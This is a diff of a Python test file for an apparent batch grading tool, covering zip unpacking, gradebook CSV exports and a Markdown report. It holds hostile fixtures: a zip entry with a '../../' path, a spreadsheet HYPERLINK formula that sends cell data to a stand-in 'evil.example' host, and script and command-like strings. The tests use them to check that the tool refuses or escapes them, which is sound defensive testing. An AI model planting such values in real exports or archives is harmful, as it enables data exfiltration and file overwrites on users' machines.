@@ -1,16 +1,25 @@
-"""Batch regrading without grading: finding submissions, reading metadata, grades.csv and the report."""
+"""Batch regrading without grading: finding submissions (folders, zips, wrong folders), the gradebook
+files, the statuses, the escaping of student-controlled text, and the report."""
 
 from __future__ import annotations
 
 import csv
 import json
+import zipfile
 from pathlib import Path
 
 import pytest
 
-from grader.batch.discovery import BatchInputError, Submission, Submitter, find_submissions
-from grader.batch.grades import collect_rows, write_grades_csv
-from grader.batch.report import HISTOGRAM_FILE, write_report
+from grader.batch.discovery import (
+    BatchInputError,
+    Submission,
+    Submitter,
+    find_submissions,
+    resolve_input,
+)
+from grader.batch.gradebook import write_gradebook
+from grader.batch.grades import collect_rows
+from grader.batch.report import HISTOGRAM_FILE, SECTIONS_FILE, write_report
 from grader.batch.runner import OUTCOME_FILE, RESULTS_FILE, Outcome, read_outcome, submission_dir
 from grader.table import load_table
 
@@ -67,6 +76,49 @@ def test_an_empty_or_missing_folder_is_a_clear_error(tmp_path: Path) -> None:
         find_submissions(tmp_path)
 
 
+def test_one_submission_or_the_parent_of_an_export_is_refused_with_the_path_to_use(
+    tmp_path: Path,
+) -> None:
+    single = tmp_path / "alice"
+    single.mkdir()
+    (single / "A2S1 (1).py").write_text("query121 = None\n")
+    with pytest.raises(BatchInputError, match=r"looks like one submission \(it holds A2S1 \(1\).py\)"):
+        find_submissions(single)
+    parent = tmp_path / "downloads"
+    export = _export(parent)
+    (parent / "notes").mkdir()
+    with pytest.raises(BatchInputError, match=f"not an export but holds one: pass {export} instead"):
+        find_submissions(parent)
+
+
+def test_the_export_zip_is_unpacked_once_and_its_top_folder_used(tmp_path: Path) -> None:
+    export = _export(tmp_path)
+    archive = tmp_path / "export.zip"
+    with zipfile.ZipFile(archive, "w") as bundle:
+        for path in sorted(export.rglob("*")):
+            bundle.write(path, f"assignment_77_export/{path.relative_to(export)}")
+        bundle.writestr("__MACOSX/._junk", "")
+    out = tmp_path / "out"
+    folder = resolve_input(archive, out)
+    assert folder == out / "export" / "assignment_77_export"
+    submissions, _ = find_submissions(folder)
+    assert [s.id for s in submissions] == ["101", "102", "103"]
+    assert submissions[0].names == "Ada Lovelace; Alan Turing"
+    (folder / "submission_101" / "A2S1.py").write_text("query121 = 1\n")
+    assert resolve_input(archive, out) == folder
+    assert (folder / "submission_101" / "A2S1.py").read_text() == "query121 = 1\n", "unpacked once"
+
+
+def test_a_zip_with_a_path_outside_its_folder_is_refused(tmp_path: Path) -> None:
+    archive = tmp_path / "evil.zip"
+    with zipfile.ZipFile(archive, "w") as bundle:
+        bundle.writestr("submission_1/A2S1.py", "")
+        bundle.writestr("../../escaped.py", "")
+    with pytest.raises(BatchInputError, match="outside its folder"):
+        resolve_input(archive, tmp_path / "out")
+    assert not (tmp_path / "escaped.py").exists()
+
+
 def _finish(out: Path, submission: Submission, outcome: Outcome, results: dict | None) -> None:
     folder = submission_dir(out, submission)
     folder.mkdir(parents=True)
@@ -75,55 +127,134 @@ def _finish(out: Path, submission: Submission, outcome: Outcome, results: dict |
         (folder / RESULTS_FILE).write_text(json.dumps(results))
 
 
-def _results(scores: dict[str, tuple[float, str]]) -> dict:
+def _results(scores: dict[str, tuple[float, str]], statuses: dict[str, str] | None = None) -> dict:
+    """A results.json as the grader writes it; `statuses` overrides a failed test's status."""
     table = load_table()
-    tests = [
-        {
-            "number": number,
-            "name": table.test(number).name,
-            "score": score,
-            "max_score": table.test(number).max_score,
-            "status": "passed" if score == table.test(number).points else "failed",
-            "output": output,
-        }
-        for number, (score, output) in scores.items()
-    ]
+    tests = []
+    for number, (score, output) in scores.items():
+        row = table.test(number)
+        passed = score == row.points
+        status = "passed" if passed else (statuses or {}).get(number, "failed")
+        tests.append(
+            {
+                "number": number,
+                "name": row.name,
+                "score": score,
+                "max_score": row.max_score,
+                "status": "passed" if passed else "failed",
+                "output": output,
+                "extra_data": {"section": row.section, "status": status},
+            }
+        )
     return {"score": sum(test["score"] for test in tests), "tests": tests}
 
 
-def test_csv_and_report_summarise_the_class(tmp_path: Path) -> None:
-    table = load_table()
-    graded = table.select({1})
+HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+
+
+def _graded_class(tmp_path: Path) -> tuple[Path, list]:
+    """Eight submissions, one per status and score pattern, graded on §1 only."""
+    graded = load_table().select({1})
     out = tmp_path / "out"
-    people = (Submitter("Ada", "ada@example.edu", "1"),)
-    submissions = [Submission(str(i), tmp_path / str(i), people if i == 1 else ()) for i in (1, 2, 3, 4)]
+    group = (Submitter("Ada", "ada@example.edu", "1"), Submitter(HOSTILE_NAME, "-cmd@example.edu", "2"))
+    submissions = [Submission(str(i), tmp_path / str(i), group if i == 1 else ()) for i in range(1, 9)]
     full = {row.number: (row.points, "") for row in graded}
     off = "Off by up to {} (allowed: 0.05).\nmore detail"
-    _finish(out, submissions[0], Outcome("1", "ok", 3.0), _results(full))
-    _finish(
-        out, submissions[1], Outcome("2", "ok", 2.5), _results({**full, "1.2.1": (0.0, off.format(0.26))})
-    )
+    none = {number: (0.0, "missing") for number in full}
+    flagged = _results({**full, "1.2.1": (0.0, off.format(0.26))})
+    flagged["extra_data"] = {"integrity": ["answers computed by a forged verdict", "<script>x</script>"]}
+    first = {**full, "1.3.2": (0.0, "wrong"), "1.4.2": (0.0, "| **bold** |")}
+    _finish(out, submissions[0], Outcome("1", "ok", 3.0), _results(first))
+    _finish(out, submissions[1], Outcome("2", "ok", 2.5), flagged)
     _finish(
         out, submissions[2], Outcome("3", "ok", 2.0), _results({**full, "1.2.1": (0.0, off.format(0.54))})
     )
     _finish(out, submissions[3], Outcome("4", "timeout", 60.0, "grading did not finish"), None)
+    _finish(out, submissions[4], Outcome("5", "ok", 1.0), _results(none, dict.fromkeys(full, "no file")))
+    template = dict.fromkeys(full, "not implemented")
+    _finish(out, submissions[5], Outcome("6", "ok", 1.0), _results(none, template))
+    _finish(
+        out, submissions[6], Outcome("7", "ok", 1.0), _results(none, dict.fromkeys(full, "student error"))
+    )
+    _finish(out, submissions[7], Outcome("8", "error", 1.0, "the grader exited with status 1"), None)
     outcomes = {s.id: read_outcome(submission_dir(out, s)) for s in submissions}
-    rows = collect_rows(submissions, outcomes, out)
+    return out, collect_rows(submissions, outcomes, out, graded)
 
-    write_grades_csv(out / "grades.csv", rows, graded)
-    with (out / "grades.csv").open() as handle:
-        records = list(csv.DictReader(handle))
-    maximum = sum(row.points for row in graded)
-    assert [r["status"] for r in records] == ["ok", "ok", "ok", "timeout"]
-    assert records[0]["names"] == "Ada" and records[0]["emails"] == "ada@example.edu"
-    assert float(records[0]["total"]) == maximum == float(records[0]["section_1"])
-    assert float(records[1]["test_1.2.1"]) == 0 and float(records[1]["total"]) == maximum - 2.5
-    assert records[3]["test_1.2.1"] == "" and float(records[3]["total"]) == 0
 
-    report = write_report(out, rows, graded, table.title).read_text()
+def _read(path: Path) -> list[dict[str, str]]:
+    with path.open() as handle:
+        return list(csv.DictReader(handle))
+
+
+def test_grades_csv_has_a_row_per_student_with_status_base_and_extra_credit(tmp_path: Path) -> None:
+    table = load_table()
+    graded = table.select({1})
+    out, rows = _graded_class(tmp_path)
+    write_gradebook(out, rows, graded, "Assignment 2 (4242)")
+    records = _read(out / "grades.csv")
+    assert [(r["submission_id"], r["status"]) for r in records] == [
+        ("1", "ok"),
+        ("1", "ok"),
+        ("2", "ok"),
+        ("3", "ok"),
+        ("4", "timeout"),
+        ("5", "no file"),
+        ("6", "untouched template"),
+        ("7", "student error"),
+        ("8", "internal grader error"),
+    ]
+    ada, hostile = records[0], records[1]
+    base = sum(row.points for row in graded if not row.extra_credit)
+    assert (ada["name"], ada["sid"], ada["email"]) == ("Ada", "1", "ada@example.edu")
+    assert float(ada["base_points"]) == base - 2.5 and float(ada["base_max"]) == base
+    assert float(ada["extra_credit"]) == 2.5 and float(ada["total"]) == base
+    assert ada["test_1.4.2"] == "0" and ada["status_1.4.2"] == "failed" and ada["status_1.2.1"] == "passed"
+    assert hostile["name"] == "'" + HOSTILE_NAME and hostile["email"] == "'-cmd@example.edu"
+    assert hostile["total"] == ada["total"], "a group's members share its grade"
+    assert records[2]["integrity"] == "answers computed by a forged verdict; <script>x</script>"
+    assert records[4]["total"] == "" and records[4]["test_1.2.1"] == "", "a timeout is no grade"
+    assert records[5]["total"] == "0" and records[5]["status_1.2.1"] == "no file"
+    assert records[8]["total"] == "" and records[8]["message"] == "the grader exited with status 1"
+
+    canvas = _read(out / "canvas.csv")
+    assert list(canvas[0]) == [
+        "Student",
+        "ID",
+        "SIS User ID",
+        "SIS Login ID",
+        "Section",
+        "Assignment 2 (4242)",
+    ]
+    assert canvas[1]["Student"] == "'" + HOSTILE_NAME and canvas[1]["SIS User ID"] == "2"
+    assert float(canvas[1]["Assignment 2 (4242)"]) == base
+    assert [c["Assignment 2 (4242)"] for c in canvas[4:]] == ["", "0", "0", "0", ""]
+
+    tests = _read(out / "tests.csv")
+    assert len(tests) == 8 * len(graded)
+    first = next(t for t in tests if t["submission_id"] == "2" and t["test"] == "1.2.1")
+    assert first["status"] == "failed" and first["feedback"] == "Off by up to 0.26 (allowed: 0.05)."
+    assert first["extra_credit"] == "no" and first["points"] == "2.5"
+
+
+def test_report_lists_who_to_look_at_and_escapes_what_students_wrote(tmp_path: Path) -> None:
+    table = load_table()
+    graded = table.select({1})
+    out, rows = _graded_class(tmp_path)
+    report = write_report(out, rows, table, graded, below=8).read_text()
     assert (out / HISTOGRAM_FILE).read_bytes().startswith(b"\x89PNG")
-    assert "4 submissions: 3 graded, 1 timed out, 0 could not be graded." in report
+    assert (out / SECTIONS_FILE).read_bytes().startswith(b"\x89PNG")
+    assert (
+        "8 submissions: 3 ok, 1 no file, 1 untouched template, 1 student error, 1 timeout, "
+        "1 internal grader error." in report
+    )
+    assert "## Missing notebooks (1)" in report and "| 5 |  | A2S1 |" in report
+    assert "## Untouched templates (1)" in report and "| 6 |  | untouched template |" in report
+    assert "## Integrity flags (1)" in report
+    assert "answers computed by a forged verdict; &lt;script&gt;x&lt;/script&gt;" in report
+    assert "## Below 8 of 10 base points (6)" in report
+    assert "| 8 |  | internal grader error: the grader exited with status 1 |" in report
+    assert '| 1 | Ada; =HYPERLINK("http://evil.example/?"&amp;A1,"Click") | 7.5 |' in report
     assert "- 2× Off by up to 0.26 (allowed: 0.05)." in report, "one mistake, two numbers"
+    assert "- 1× \\| \\*\\*bold\\*\\* \\|" in report
     assert "more detail" not in report
-    assert "| 1.2.1 | query121 selects v0 | 2.5 | 0.83 | 1/3 | 2/3 | 0: 2, 2.5: 1 |" in report
-    assert "| 4 |  | timeout | grading did not finish |" in report
+    assert "| 1.2.1 | query121 selects v0 | 2.5 | 0.42 | 1/6 | 5/6 | 0: 5, 2.5: 1 |" in report
